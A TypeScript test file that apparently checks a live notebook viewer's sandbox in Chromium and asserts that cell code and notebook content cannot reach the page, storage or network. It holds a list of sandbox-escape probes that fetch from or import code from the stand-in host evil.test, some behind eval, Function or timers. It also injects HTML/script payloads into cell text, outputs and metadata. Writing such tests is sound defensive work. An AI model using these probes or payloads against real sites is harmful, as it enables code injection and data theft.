// A live page's cells are somebody else's program: they reach no page, no storage and no network, and what they show is
// as harmless as what a notebook's file holds.

import { afterAll, describe, expect, test } from "vitest";
import { noChromium } from "../chromium.js";
import { disguised, hostile } from "../report/hostile.js";
import { code, html, notebook, prose } from "../report/sample.js";
import { idle, Pages, runFrom } from "./opened.js";

/** What a cell may try, and evaluates to when it got through. */
const attempts: readonly (readonly [name: string, code: string])[] = [
  ["fetch", 'await fetch("https://evil.test/")'],
  [
    "fetch of an inner copy",
    'await Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, "https://evil.test/")',
  ],
  ["XMLHttpRequest", 'const x = new XMLHttpRequest(); x.open("GET", "https://evil.test/", false); x.send()'],
  ["WebSocket", 'new WebSocket("wss://evil.test/")'],
  ["EventSource", 'new EventSource("https://evil.test/")'],
  ["WebTransport", 'new WebTransport("https://evil.test/")'],
  ["importScripts", 'importScripts("https://evil.test/x.js")'],
  ["importScripts of data", 'importScripts("data:text/javascript,1")'],
  ["import() rewritten", 'await import("https://evil.test/x.js")'],
  ["import() of data, rewritten", 'await import("data:text/javascript,export default 1")'],
  ["import() behind eval", `await (0, eval)('import("https://evil.test/x.js")')`],
  ["import() behind Function", `await new Function('return import("https://evil.test/x.js")')()`],
  [
    "import() behind a timer",
    `await new Promise((yes, no) => { setTimeout('import("https://evil.test/x.js").then(() => postMessage("x"))', 1); setTimeout(() => no(new Error("no")), 200); })`,
  ],
  ["import() behind a constructor", `await (async () => {}).constructor('return import("data:text/javascript,1")')()`],
  ["document", "document.body"],
  ["parent", "parent.document"],
  ["top", "top.location"],
  ["window", "window.document"],
  ["localStorage", "localStorage.length"],
  ["sessionStorage", "sessionStorage.length"],
  ["indexedDB", 'indexedDB.open("x")'],
  ["caches", 'await caches.open("x")'],
  ["BroadcastChannel", 'new BroadcastChannel("x")'],
  ["SharedWorker", 'new SharedWorker("data:text/javascript,1")'],
  ["Worker", 'new Worker("data:text/javascript,1")'],
  ["a worker from a blob", "new Worker(URL.createObjectURL(new Blob(['fetch(\"https://evil.test/\")'])))"],
  ["postMessage", 'postMessage("x")'],
  ["postMessage of an inner copy", 'DedicatedWorkerGlobalScope.prototype.postMessage.call(self, "x")'],
  ["cookieStore", "await cookieStore.getAll()"],
  ["storage", "await navigator.storage.getDirectory()"],
  ["sendBeacon", 'navigator.sendBeacon("https://evil.test/")'],
  ["a font", 'await new FontFace("x", "url(https://evil.test/f.woff2)").load()'],
  ["file system", "webkitRequestFileSystemSync(0, 1)"],
  ["Notification", 'new Notification("x")'],
];

describe.skipIf(noChromium("the sandbox"))("in Chromium", () => {
  const pages = new Pages();
  afterAll(() => pages.close());

  test("no cell reaches the page, its storage, or the network", async () => {
    const body = attempts.map(
      ([name, text]) =>
        `await tried(${JSON.stringify(name)}, async () => { ${text.replace(/^(?!const|new Function)/, "return ")} });`,
    );
    const cell = `const got: string[] = [];\nasync function tried(name: string, act: () => unknown) { try { await Promise.race([act(), late()]); got.push(name); } catch {} }\nconst late = () => new Promise((_, no) => setTimeout(() => no(new Error("nothing came")), 500));\n${body.join("\n")}\ngot.join()`;
    const { page, foreign } = await pages.live(notebook(code(cell)));
    await runFrom(page);
    expect(await page.locator(".output").last().textContent()).toBe("''");
    expect(foreign).toEqual([]);
    await page.close();
  });

  test("what stands behind the doors is closed by the policy too: a frame like the page's, its worker left open", async () => {
    const { page, foreign } = await pages.live(notebook(code("1")));
    const policy = await page.locator("iframe").evaluate((frame) => (frame as unknown as { srcdoc: string }).srcdoc);
    expect(policy).toContain("default-src 'none'");
    expect(await page.locator("iframe").getAttribute("sandbox")).toBe("allow-scripts");
    // The sandbox's frame runs nothing but its own script, and its realm has no origin.
    const frame = page.frames().at(-1)!;
    expect(await frame.evaluate("self.origin")).toBe("null");
    const asked = frame.evaluate('fetch("https://evil.test/").then(() => "through", () => "refused")');
    expect(await asked).toBe("refused");
    expect(await frame.evaluate('(() => { try { return parent.document.title } catch { return "refused" } })()')).toBe(
      "refused",
    );
    expect(await frame.evaluate('(() => { try { return localStorage.length } catch { return "refused" } })()')).toBe(
      "refused",
    );
    const fromWorker = `new Promise((answer) => {
      const text = 'fetch("https://evil.test/").then(() => postMessage("through"), () => postMessage("refused"))';
      new Worker(URL.createObjectURL(new Blob([text]))).onmessage = ({ data }) => answer(data);
    })`;
    expect(await frame.evaluate(fromWorker)).toBe("refused");
    expect(foreign.filter((url) => !url.startsWith("https://evil.test/"))).toEqual([]);
    await page.close();
  });

  test("nothing that a cell shows runs, loads, or covers the page", async () => {
    const shown = `const shows = (html: string) => ({ [Symbol.for("Jupyter.display")]: () => ({ "text/plain": "x", "text/html": html, "image/svg+xml": html, "text/markdown": html, "application/javascript": "hacked = 1" }) });`;
    const cells = [...hostile, ...disguised].map(([, attack]) =>
      code(`display(shows(${JSON.stringify(attack)}));\nshows(${JSON.stringify(attack)})`),
    );
    const { page, foreign, complaints } = await pages.live(notebook(code(shown), ...cells));
    await runFrom(page);
    expect(await page.locator(".live-bar [role=status]").textContent()).toMatch(/^运行了/);
    expect(await page.locator(".results .output").count()).toBeGreaterThan(hostile.length);
    expect(await page.evaluate(() => (globalThis as { hacked?: unknown }).hacked)).toBeUndefined();
    const alive =
      "script, iframe, object, embed, svg, math, form, style, link, meta, base, template, [onerror], [onload], [onclick], [srcdoc]";
    expect(await page.locator(".results").locator(alive).count()).toBe(0);
    expect(
      await page
        .locator(
          '.results [href^="javascript" i], .results [href^="data:" i], .results [style*="url" i], .results [style*="fixed"]',
        )
        .count(),
    ).toBe(0);
    expect(foreign).toEqual([]);
    expect(complaints).toEqual([]);
    await page.close();
  });

  test("nor anything that the file holds: prose, outputs, ids, metadata, names", async () => {
    const attack = '"><img src=x onerror="hacked = 1"></script><script>hacked = 1</script><!--';
    const cells = [...hostile, ...disguised].flatMap(([, text]) => [prose(text), code("1", html(text))]);
    const nasty = {
      ...code(attack, { output_type: "stream", name: "stdout", text: attack }),
      id: attack,
      metadata: { tags: [attack], name: attack },
    };
    const error = code(attack, { output_type: "error", ename: attack, evalue: attack, traceback: [attack] });
    const book = {
      cells: [...cells, nasty, error, prose("# end")],
      metadata: { title: attack, kernelspec: { name: attack } },
    };
    const { page, foreign, complaints } = await pages.live(book);
    expect(await page.evaluate(() => (globalThis as { hacked?: unknown }).hacked)).toBeUndefined();
    expect(await page.locator("main h1").last().textContent()).toBe("end");
    expect([foreign, complaints]).toEqual([[], []]);
    await page.close();
  });

  test("a cell that talks past the protocol changes nothing but its own output", async () => {
    const { page } = await pages.live(
      notebook(
        code('const big = "x".repeat(5_000_000);\nconsole.log(big);\nfor (let i = 0; i < 100000; i++) console.log(i);'),
        code("'next'"),
      ),
    );
    await runFrom(page);
    await idle(page);
    expect(await page.locator('[data-cell="0"] .output').textContent()).toContain("more than a page can hold");
    expect(await page.locator('[data-cell="1"] .output').textContent()).toBe("'next'");
    await page.close();
  });
});
